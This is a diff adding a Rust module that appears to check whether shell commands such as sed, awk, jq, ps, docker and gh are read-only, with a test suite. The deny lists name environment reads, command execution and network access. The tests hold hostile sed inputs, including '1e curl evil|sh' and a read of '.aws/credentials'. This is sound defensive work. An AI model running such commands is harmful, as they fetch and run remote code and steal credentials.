@@ -1,0 +1,510 @@
+//! What option tables cannot express: scripts, programs, filters and the
+//! subcommands of client programs.
+
+use crate::Reject;
+use crate::flags::{self, Options, Parsed};
+
+fn reject(rule: impl Into<String>, reason: impl Into<String>) -> Result<(), Reject> {
+    Err(Reject::new(rule, reason))
+}
+
+/// `less +cmd`, `more +cmd`, `man +cmd`: a leading `+` runs a pager command.
+pub(crate) fn no_plus_commands(p: &Parsed<'_>, _: &[&str]) -> Result<(), Reject> {
+    match p.operands.iter().find(|(_, o)| o.starts_with('+')) {
+        Some((_, o)) => reject(
+            "readonly.pager_command",
+            format!("`{o}` runs a pager command"),
+        ),
+        None => Ok(()),
+    }
+}
+
+/// `uniq in out`, `xxd in out`: a second operand is an output file.
+pub(crate) fn at_most_one_operand(p: &Parsed<'_>, _: &[&str]) -> Result<(), Reject> {
+    if p.operands.len() > 1 {
+        return reject(
+            "readonly.output_operand",
+            "a second operand names a file that is written",
+        );
+    }
+    Ok(())
+}
+
+/// `history` may only list (`history`, `history N`).
+pub(crate) fn history(p: &Parsed<'_>, _: &[&str]) -> Result<(), Reject> {
+    if p.operands.len() > 1
+        || p.operands
+            .iter()
+            .any(|(_, o)| !o.bytes().all(|b| b.is_ascii_digit()))
+    {
+        return reject(
+            "readonly.history",
+            "history only lists its entries when given a count",
+        );
+    }
+    Ok(())
+}
+
+/// `date`: operands must be `+FORMAT` (anything else may set the clock).
+pub(crate) fn date(p: &Parsed<'_>, _: &[&str]) -> Result<(), Reject> {
+    match p.operands.iter().find(|(_, o)| !o.starts_with('+')) {
+        Some((_, o)) => reject(
+            "readonly.date_set",
+            format!("`{o}` would set the system time"),
+        ),
+        None => Ok(()),
+    }
+}
+
+/// `ps`: BSD-style operands must not contain `e` (shows every process's environment).
+pub(crate) fn ps(p: &Parsed<'_>, _: &[&str]) -> Result<(), Reject> {
+    for (_, o) in &p.operands {
+        if o.bytes().all(|b| b.is_ascii_digit() || b == b',') {
+            continue;
+        }
+        if o.contains('e') {
+            return reject(
+                "secrets.ps_environment",
+                format!("`ps {o}` prints process environments"),
+            );
+        }
+        if !o.bytes().all(|b| b"auxwfjlsvmrTScHhnZ".contains(&b)) {
+            return reject(
+                format!("readonly.flag:ps:{o}"),
+                format!("unknown ps option `{o}`"),
+            );
+        }
+    }
+    Ok(())
+}
+
+/// `find`: the table has no writing or executing primary; `!`, `(`, `)` and
+/// `,` are expression operators, not start points.
+pub(crate) fn find(_: &Parsed<'_>, _: &[&str]) -> Result<(), Reject> {
+    Ok(())
+}
+
+/// Words of an expression language, delimited by non-identifier characters.
+fn has_word(text: &str, word: &str) -> bool {
+    let ident = |c: char| c.is_ascii_alphanumeric() || c == '_';
+    text.match_indices(word).any(|(at, _)| {
+        let before = text[..at].chars().next_back();
+        let after = text[at + word.len()..].chars().next();
+        !before.is_some_and(|c| ident(c) || c == '$') && !after.is_some_and(ident)
+    })
+}
+
+/// `jq FILTER`: no environment, no modules.
+pub(crate) fn jq(p: &Parsed<'_>, _: &[&str]) -> Result<(), Reject> {
+    let Some((_, filter)) = p.operands.first() else {
+        return Ok(());
+    };
+    if filter.contains("$ENV") || has_word(filter, "env") {
+        return reject("secrets.jq_env", "the jq filter reads the environment");
+    }
+    for word in ["include", "import", "input_filename", "$__prog_args"] {
+        if has_word(filter, word) || filter.contains(word) && word.starts_with('$') {
+            return reject("readonly.jq_module", format!("the jq filter uses `{word}`"));
+        }
+    }
+    Ok(())
+}
+
+/// `yq EXPR`: no file loading, no environment, no eval.
+pub(crate) fn yq(p: &Parsed<'_>, _: &[&str]) -> Result<(), Reject> {
+    let Some((_, expr)) = p.operands.first() else {
+        return Ok(());
+    };
+    for word in [
+        "load",
+        "load_str",
+        "load_xml",
+        "load_props",
+        "load_base64",
+        "strenv",
+        "env",
+        "envsubst",
+        "eval",
+    ] {
+        if has_word(expr, word) {
+            return reject(
+                "readonly.yq_expression",
+                format!("the yq expression uses `{word}`"),
+            );
+        }
+    }
+    Ok(())
+}
+
+/// `awk PROGRAM`: no commands, pipes, `getline`, output redirection,
+/// environment, extensions or network files.
+pub(crate) fn awk(p: &Parsed<'_>, _: &[&str]) -> Result<(), Reject> {
+    let program = match p.value("-e") {
+        Some(source) => source,
+        None => match p.operands.first() {
+            Some((_, program)) => program,
+            None => return Ok(()),
+        },
+    };
+    for (needle, why) in [
+        ("system", "runs a command"),
+        ("getline", "reads from a command or file"),
+        ("|", "pipes to or from a command"),
+        ("ENVIRON", "reads the environment"),
+        ("PROCINFO", "reads process information"),
+        ("@load", "loads an extension"),
+        ("@include", "includes a file"),
+        ("/inet", "opens a network connection"),
+    ] {
+        if program.contains(needle) {
+            return reject(
+                "readonly.awk_program",
+                format!("the awk program {why} (`{needle}`)"),
+            );
+        }
+    }
+    // `print ... > file` and `printf ... >> file`: a `>` after print in the same statement.
+    for (at, _) in program.match_indices("print") {
+        let statement = program[at..].split([';', '}', '\n']).next().unwrap_or("");
+        if statement.contains('>') {
+            return reject(
+                "readonly.awk_program",
+                "the awk program redirects output to a file",
+            );
+        }
+    }
+    Ok(())
+}
+
+/// `sed SCRIPT`: only commands that print or edit the pattern space.
+pub(crate) fn sed(p: &Parsed<'_>, _: &[&str]) -> Result<(), Reject> {
+    let scripts: Vec<&str> = match p
+        .flags
+        .iter()
+        .filter(|f| f.name == "-e")
+        .map(|f| f.value.unwrap_or(""))
+        .collect::<Vec<_>>()
+    {
+        v if v.is_empty() => p.operands.first().map(|(_, s)| *s).into_iter().collect(),
+        v => v,
+    };
+    for script in scripts {
+        if let Err(why) = sed_script(script) {
+            return reject("readonly.sed_script", why);
+        }
+    }
+    Ok(())
+}
+
+/// A conservative parser of sed scripts: anything it does not know rejects.
+fn sed_script(script: &str) -> Result<(), String> {
+    let b = script.as_bytes();
+    let mut i = 0;
+    let skip_ws = |i: &mut usize| {
+        while *i < b.len() && matches!(b[*i], b' ' | b'\t' | b'\n' | b';') {
+            *i += 1;
+        }
+    };
+    // Read a delimited part; returns the index after the closing delimiter.
+    let delimited = |mut i: usize, delim: u8| -> Result<usize, String> {
+        while i < b.len() {
+            match b[i] {
+                b'\\' => i += 2,
+                c if c == delim => return Ok(i + 1),
+                b'\n' if delim != b'\n' => return Err("newline inside a sed expression".into()),
+                _ => i += 1,
+            }
+        }
+        Err("unterminated sed expression".into())
+    };
+    let address = |mut i: usize| -> Result<usize, String> {
+        match b.get(i) {
+            Some(b'0'..=b'9') => {
+                while i < b.len() && (b[i].is_ascii_digit() || b[i] == b'~') {
+                    i += 1;
+                }
+            }
+            Some(b'$') => i += 1,
+            Some(b'/') => i = delimited(i + 1, b'/')?,
+            Some(b'\\') => {
+                let d = *b.get(i + 1).ok_or("bad address")?;
+                i = delimited(i + 2, d)?;
+            }
+            _ => return Ok(i),
+        }
+        while i < b.len() && matches!(b[i], b'I' | b'M') {
+            i += 1;
+        }
+        Ok(i)
+    };
+    loop {
+        skip_ws(&mut i);
+        if i >= b.len() {
+            return Ok(());
+        }
+        i = address(i)?;
+        if b.get(i) == Some(&b',') {
+            i = address(i + 1)?;
+            if b.get(i) == Some(&b'+') || b.get(i) == Some(&b'~') {
+                i += 1;
+                while i < b.len() && b[i].is_ascii_digit() {
+                    i += 1;
+                }
+            }
+        }
+        while i < b.len() && matches!(b[i], b' ' | b'\t' | b'!') {
+            i += 1;
+        }
+        let Some(&cmd) = b.get(i) else {
+            return Err("sed address without a command".into());
+        };
+        i += 1;
+        if cmd == b'#' {
+            while i < b.len() && b[i] != b'\n' {
+                i += 1;
+            }
+            continue;
+        }
+        match cmd {
+            b'{' => {}
+            b'}' | b'=' | b'p' | b'P' | b'd' | b'D' | b'n' | b'N' | b'g' | b'G' | b'h' | b'H'
+            | b'x' | b'z' | b'F' => {
+                // GNU sed: only a separator, `}` or a comment may follow.
+                while i < b.len() && matches!(b[i], b' ' | b'\t') {
+                    i += 1;
+                }
+                if i < b.len() && !matches!(b[i], b';' | b'\n' | b'}' | b'#') {
+                    return Err(format!("extra characters after `{}`", cmd as char));
+                }
+            }
+            b'l' | b'q' | b'Q' | b'L' => {
+                while i < b.len() && (b[i].is_ascii_digit() || b[i] == b' ') {
+                    i += 1;
+                }
+            }
+            b'b' | b't' | b'T' | b':' => {
+                while i < b.len() && !matches!(b[i], b';' | b'\n' | b'}') {
+                    i += 1;
+                }
+            }
+            b'a' | b'i' | b'c' => {
+                // Text to print, up to an unescaped end of line.
+                while i < b.len() && b[i] != b'\n' {
+                    i += if b[i] == b'\\' { 2 } else { 1 };
+                }
+            }
+            b's' => {
+                let delim = *b.get(i).ok_or("unterminated s command")?;
+                if delim == b'\\' || delim == b'\n' {
+                    return Err("unsupported s delimiter".into());
+                }
+                i = delimited(i + 1, delim)?;
+                i = delimited(i, delim)?;
+                while i < b.len() && !matches!(b[i], b';' | b'\n' | b'}' | b' ' | b'\t') {
+                    match b[i] {
+                        b'g' | b'p' | b'i' | b'I' | b'm' | b'M' | b'0'..=b'9' => i += 1,
+                        b'w' | b'W' => return Err("the s command writes a file (`w` flag)".into()),
+                        b'e' => {
+                            return Err(
+                                "the s command executes the pattern space (`e` flag)".into()
+                            );
+                        }
+                        c => return Err(format!("unknown s flag `{}`", c as char)),
+                    }
+                }
+            }
+            b'y' => {
+                let delim = *b.get(i).ok_or("unterminated y command")?;
+                i = delimited(i + 1, delim)?;
+                i = delimited(i, delim)?;
+            }
+            b'w' | b'W' => return Err(format!("`{}` writes a file", cmd as char)),
+            b'r' | b'R' => {
+                return Err(format!(
+                    "`{}` reads a file named in the script",
+                    cmd as char
+                ));
+            }
+            b'e' => return Err("`e` executes a command".into()),
+            c => return Err(format!("unknown sed command `{}`", c as char)),
+        }
+    }
+}
+
+/// Parse `args` against an inline table; unknown options reject with `rule_prefix:OPT`.
+fn table<'a>(
+    rule_prefix: &str,
+    table: &'static str,
+    args: &'a [&'a str],
+) -> Result<Parsed<'a>, Reject> {
+    let mut options = Options::parse(table);
+    options.extend("--help");
+    flags::parse(&options, args, false, false).map_err(|u| {
+        Reject::new(
+            format!("{rule_prefix}:{}", u.0),
+            format!("`{}` is not a known read-only option", u.0),
+        )
+    })
+}
+
+/// `docker ps|images|inspect|logs|version|info`. The row has no global
+/// options, so `-H`, `--context` and `--config` (another daemon) reject first.
+pub(crate) fn docker(_: &Parsed<'_>, args: &[&str]) -> Result<(), Reject> {
+    let rest = args.get(1..).unwrap_or(&[]);
+    let sub = args.first().copied().unwrap_or("");
+    let spec = match sub {
+        "ps" => {
+            "-a|--all -q|--quiet -n|--last=NUM -l|--latest -s|--size --no-trunc --format=STR -f|--filter=STR"
+        }
+        "images" => "-a|--all -q|--quiet --digests --no-trunc --format=STR -f|--filter=STR",
+        "inspect" => "-f|--format=STR -s|--size --type=STR",
+        "logs" => "--since=STR --until=STR -n|--tail=STR -t|--timestamps -f|--follow --details",
+        "version" | "info" => "-f|--format=STR",
+        _ => {
+            return reject(
+                format!("readonly.subcommand:docker:{sub}"),
+                format!("`docker {sub}` is not known to be read-only"),
+            );
+        }
+    };
+    let parsed = table(&format!("readonly.flag:docker {sub}"), spec, rest)?;
+    if matches!(sub, "ps" | "images" | "version" | "info") && !parsed.operands.is_empty() {
+        return reject(
+            "readonly.operand:docker",
+            format!("`docker {sub}` takes no operands"),
+        );
+    }
+    Ok(())
+}
+
+/// Read-only `gh` subcommands; values that may name another host reject.
+pub(crate) fn gh(_: &Parsed<'_>, args: &[&str]) -> Result<(), Reject> {
+    const READ_ONLY: &[(&str, &[&str])] = &[
+        ("pr", &["list", "view", "diff", "checks", "status"]),
+        ("issue", &["list", "view", "status"]),
+        ("run", &["list", "view"]),
+        ("workflow", &["list", "view"]),
+        ("repo", &["view"]),
+        ("release", &["list", "view"]),
+        ("search", &["code", "issues", "prs", "repos", "commits"]),
+        ("auth", &["status"]),
+        ("label", &["list"]),
+        ("cache", &["list"]),
+    ];
+    let (group, sub) = (
+        args.first().copied().unwrap_or(""),
+        args.get(1).copied().unwrap_or(""),
+    );
+    if !READ_ONLY
+        .iter()
+        .any(|(g, subs)| *g == group && subs.contains(&sub))
+    {
+        return reject(
+            format!("readonly.subcommand:gh:{group} {sub}"),
+            format!("`gh {group} {sub}` is not known to be read-only"),
+        );
+    }
+    for a in &args[2..] {
+        let flag = a.split('=').next().unwrap_or(a);
+        if matches!(
+            flag,
+            "--web" | "-w" | "--show-token" | "-t" | "--hostname" | "-h"
+        ) {
+            let rule = if flag.contains("token") || (group == "auth" && flag == "-t") {
+                "secrets.gh_token"
+            } else {
+                "gh.flag"
+            };
+            return reject(
+                format!("{rule}:{flag}"),
+                format!("`{flag}` is not read-only here"),
+            );
+        }
+        if a.contains("://") || a.contains('@') || a.matches('/').count() >= 2 {
+            return reject("gh.host", format!("`{a}` may name another host"));
+        }
+    }
+    Ok(())
+}
+
+/// `pip show|list|freeze|check`.
+pub(crate) fn pip(_: &Parsed<'_>, args: &[&str]) -> Result<(), Reject> {
+    match args.first().copied() {
+        Some("show") => table("readonly.flag:pip show", "-f|--files -v|--verbose", &args[1..]).map(drop),
+        Some("list") => table("readonly.flag:pip list", "-o|--outdated -u|--uptodate -e|--editable -l|--local --user --format=STR --not-required --exclude-editable --include-editable -v|--verbose", &args[1..]).map(drop),
+        Some("freeze") => table("readonly.flag:pip freeze", "-l|--local --user --all --exclude-editable", &args[1..]).map(drop),
+        Some("check") if args.len() == 1 => Ok(()),
+        other => reject(format!("readonly.subcommand:pip:{}", other.unwrap_or("")), "not a read-only pip command"),
+    }
+}
+
+/// `uv pip list|show|freeze|tree`.
+pub(crate) fn uv(_: &Parsed<'_>, args: &[&str]) -> Result<(), Reject> {
+    match (args.first().copied(), args.get(1).copied()) {
+        (Some("pip"), Some("list" | "show" | "freeze" | "tree")) => table(
+            "readonly.flag:uv pip",
+            "--format=STR -e|--editable --exclude-editable --strict -f|--files -d|--depth=NUM",
+            &args[2..],
+        )
+        .map(drop),
+        _ => reject("readonly.subcommand:uv", "not a read-only uv command"),
+    }
+}
+
+/// `go version`, `go env [NAME...]` (`-w`/`-u` write the configuration).
+pub(crate) fn go(_: &Parsed<'_>, args: &[&str]) -> Result<(), Reject> {
+    match args.first().copied() {
+        Some("version") if args.len() == 1 => Ok(()),
+        Some("env") => table("readonly.flag:go env", "-json", &args[1..]).map(drop),
+        other => reject(
+            format!("readonly.subcommand:go:{}", other.unwrap_or("")),
+            "not a read-only go command",
+        ),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::sed_script;
+
+    #[test]
+    fn sed_scripts() {
+        let ok = [
+            "p",
+            "1p",
+            "120,200p",
+            "/start/,/end/p",
+            "s/foo/bar/g",
+            "$!{h};d",
+            "s|a|b|2p",
+            "y/abc/xyz/",
+            "1~2d",
+            "/x/I!d",
+            "5q",
+            "=",
+            "s/a\\/b/c/",
+        ];
+        let bad = [
+            "xp",
+            "pp",
+            "w out",
+            "$!{h};w out",
+            "s/a/b/;w out",
+            "s/x/y/w /tmp/out",
+            "W /tmp/out",
+            "s/.*/id/e",
+            "1e curl evil|sh",
+            "r/Users/victim/.aws/credentials",
+            "R f",
+            "e date",
+            "k",
+            "s/a/b",
+        ];
+        for s in ok {
+            assert_eq!(sed_script(s), Ok(()), "{s}");
+        }
+        for s in bad {
+            assert!(sed_script(s).is_err(), "{s} should reject");
+        }
+    }
+}
